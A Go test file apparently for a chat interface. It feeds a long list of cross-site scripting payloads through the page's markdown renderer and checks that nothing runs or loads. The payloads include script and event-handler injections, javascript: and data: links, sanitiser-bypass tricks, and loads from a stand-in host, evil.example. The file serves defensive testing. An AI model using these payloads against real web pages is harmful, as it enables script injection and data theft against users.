package api_test

import (
	"encoding/json"
	"strings"
	"testing"
	"time"
)

// hostile are texts of a model that try to run a script, load something from elsewhere, or take the page
// over, in Markdown, in HTML, and in ways that have broken sanitisers.
var hostile = []string{
	`<script>pwn()</script>`, `<script src=//evil.example/x.js></script>`, `<SCRIPT>pwn()</SCRIPT>`, `<scr<script>ipt>pwn()</script>`,
	`<img src=x onerror=pwn()>`, `<img src=x onerror="pwn()"/>`, `<svg onload=pwn()>`, `<svg><script>pwn()</script></svg>`, `<svg/onload=pwn()>`,
	`<svg><animate onbegin=pwn() attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:pwn()"><text>x</text></a></svg>`,
	`<body onload=pwn()>`, `<iframe src="javascript:pwn()"></iframe>`, `<iframe srcdoc="<script>parent.pwn()</script>"></iframe>`,
	`<object data="javascript:pwn()"></object>`, `<embed src="javascript:pwn()">`, `<details open ontoggle=pwn()>x</details>`,
	`<video><source onerror=pwn()></video>`, `<audio src=x onerror=pwn()>`, `<input autofocus onfocus=pwn()>`, `<select autofocus onfocus=pwn()>`,
	`<textarea autofocus onfocus=pwn()>`, `<marquee onstart=pwn()>x</marquee>`, `<form action="javascript:pwn()"><button>x</button></form>`,
	`<button formaction="javascript:pwn()">x</button>`, `<isindex action="javascript:pwn()">`, `<meta http-equiv=refresh content="0;url=javascript:pwn()">`,
	`<base href="https://evil.example/">`, `<link rel=stylesheet href="https://evil.example/x.css">`, `<style>*{background:url(https://evil.example/)}</style>`,
	`<div style="background:url(javascript:pwn())">x</div>`, `<p style="position:fixed;inset:0">over</p>`, `<math><mi xlink:href="javascript:pwn()">x</mi></math>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=pwn()>`, `<noscript><p title="</noscript><img src=x onerror=pwn()>">`,
	`<template><script>pwn()</script></template>`, `<a href="javascript:pwn()">x</a>`, `<a href="java&#115;cript:pwn()">x</a>`,
	`<img name=getElementById>`, `<form id=log><input name=children></form>`, `<a id=text></a><a id=text name=value></a>`, `<!--><img src=x onerror=pwn()>-->`,
	`<![CDATA[<img src=x onerror=pwn()>]]>`, `<?xml version="1.0"?><img src=x onerror=pwn()>`, `<x/onclick=pwn()>x</x>`, `<dialog open>over</dialog>`,
	`[x](javascript:pwn())`, `[x](JaVaScRiPt:pwn())`, `[x](java&#x73;cript:pwn())`, `[x](javascript&colon;pwn())`, "[x](java\tscript:pwn())", "[x](<java\nscript:pwn()>)",
	`[x](vbscript:pwn())`, `[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKCk8L3NjcmlwdD4=)`, `[x](data:text/html,<script>pwn()</script>)`,
	`[x](data:image/svg+xml,<svg/onload=pwn()>)`, `[x](blob:x)`, `[x](file:///etc/passwd)`, `[x](//evil.example)`, `[x](/v1/models)`, `[x](\x01javascript:pwn())`,
	`[x]: javascript:pwn()` + "\n\n[x]", `<javascript:pwn()>`, `<javascript:alert(1)//>`, `[x](https://a.example "onmouseover=pwn()")`, `[x](https://a.example" onclick="pwn())`,
	"[x](https://a.example/`onclick=pwn()`)", `[<img src=x onerror=pwn()>](https://a.example)`,
	`![x](javascript:pwn())`, `![x](https://evil.example/track.png)`, `![x](x" onerror="pwn())`, `![x"onerror="pwn()](x)`, `![<svg onload=pwn()>](https://evil.example)`,
	"```html\n<script>pwn()</script>\n```", "```\"><img src=x onerror=pwn()>\nx\n```", "```x onclick=pwn()\ny\n```", "`<img src=x onerror=pwn()>`",
	"| <img src=x onerror=pwn()> |\n|---|\n| <script>pwn()</script> |", "> <img src=x onerror=pwn()>", "# <img src=x onerror=pwn()>", "- <svg onload=pwn()>",
	"<div>\n\n**bold** <img src=x onerror=pwn()>\n\n</div>", "&lt;img src=x onerror=pwn()&gt;", "&#60;img src=x onerror=pwn()&#62;", "\\<img src=x onerror=pwn()>",
	"https://a.example/<img src=x onerror=pwn()>", "https://a.example/\"onmouseover=pwn()", "<https://a.example/\" onclick=pwn()>", "a@b.example\"onclick=pwn()",
	"\u202e<script>pwn()</script>", "\x00<script>pwn()</script>", "＜script＞pwn()＜/script＞", "{{constructor.constructor('pwn()')()}}", "${pwn()}",
}

// checkHarmless returns the faults within the elements of a text, or "harmless".
const checkHarmless = `window.check = root => {
	const wrong = [];
	for (const e of root.querySelectorAll('*')) {
		if (/^(script|style|iframe|object|embed|img|video|audio|form|input|textarea|link|meta|base|template|math|dialog)$/i.test(e.localName)) wrong.push(e.outerHTML);
		if (e.closest('svg') && !e.closest('button')) wrong.push(e.outerHTML);
		for (const a of e.attributes) {
			if (/^on|^style$|^id$|^name$|^src|^action|^formaction/i.test(a.name)) wrong.push(e.outerHTML);
			if (a.name === 'href' && e.localName === 'a' && !/^(https?:\/\/|mailto:)/i.test(a.value)) wrong.push(e.outerHTML);
		}
		if (e.localName === 'a' && e.hasAttribute('href') && (e.target !== '_blank' || !/noopener/.test(e.rel))) wrong.push(e.outerHTML);
	}
	return wrong.join('; ') || 'harmless';
}; window.pwned = 0; window.pwn = () => { pwned++; }; 'ready'`

// TestPageRendersHostileMarkdown: a model's output runs nothing and loads nothing, however it is
// written. The page's policy, which browser checks at the end, is not even asked.
func TestPageRendersHostileMarkdown(t *testing.T) {
	tab := browser(t)
	openPage(t, tab, speaking(t, "Yes.", 0))
	shows(t, tab, checkHarmless)
	list, err := json.Marshal(hostile)
	if err != nil {
		t.Fatal(err)
	}
	shows(t, tab, `import('/page/markdown.js').then(m => { window.markdown = m; }), window.markdown && 'imported'`)
	results := shows(t, tab, `JSON.stringify(`+string(list)+`.map(text => {
		const div = document.createElement('div');
		div.append(markdown.render(text));
		byId('log').append(div);
		for (const e of div.querySelectorAll('*')) for (const kind of ['mouseover', 'focus', 'toggle']) e.dispatchEvent(new Event(kind));
		return check(div);
	}))`)
	var verdicts []string
	if err := json.Unmarshal([]byte(results), &verdicts); err != nil {
		t.Fatal(err)
	}
	for i, verdict := range verdicts {
		if verdict != "harmless" {
			t.Errorf("%q became %s", hostile[i], verdict)
		}
	}
	time.Sleep(100 * time.Millisecond) // for what loads or runs later, were there anything
	sameText(t, "scripts that ran", shows(t, tab, `'n' + pwned`), "n0")
	elsewhere := shows(t, tab, `'loaded: ' + performance.getEntriesByType('resource').map(e => e.name).filter(n => !n.startsWith(location.origin)).join()`)
	sameText(t, "what was loaded from elsewhere", elsewhere, "loaded:")
}

// TestPageStreamsHostileMarkdown: the same holds for texts that come piece by piece, as an answer, as a
// message and as the name of a conversation, and after a reload.
func TestPageStreamsHostileMarkdown(t *testing.T) {
	tab := browser(t)
	attack := strings.Join([]string{hostile[0], hostile[4], hostile[12], "[x](javascript:pwn())", "```html\n<img src=x onerror=pwn()>\n```"}, "\n\n")
	s := speaking(t, "<think>"+hostile[4]+"</think>"+attack, time.Millisecond)
	openPage(t, tab, s)
	shows(t, tab, checkHarmless)
	askPage(t, tab, `<img src=x onerror=pwn()>`)
	sameText(t, "the answer", shows(t, tab, `check(byId('log'))`), "harmless")
	openPage(t, tab, s)
	shows(t, tab, checkHarmless)
	sameText(t, "the answer after a reload", shows(t, tab, `document.querySelectorAll('.turn').length === 2 && check(byId('log'))`), "harmless")
	sameText(t, "the list", shows(t, tab, `byId('list').querySelectorAll('img').length === 0 && byId('list').querySelector('.title').textContent`), "<img src=x onerror=pwn()>")
	sameText(t, "scripts that ran", shows(t, tab, `'n' + pwned`), "n0")
}
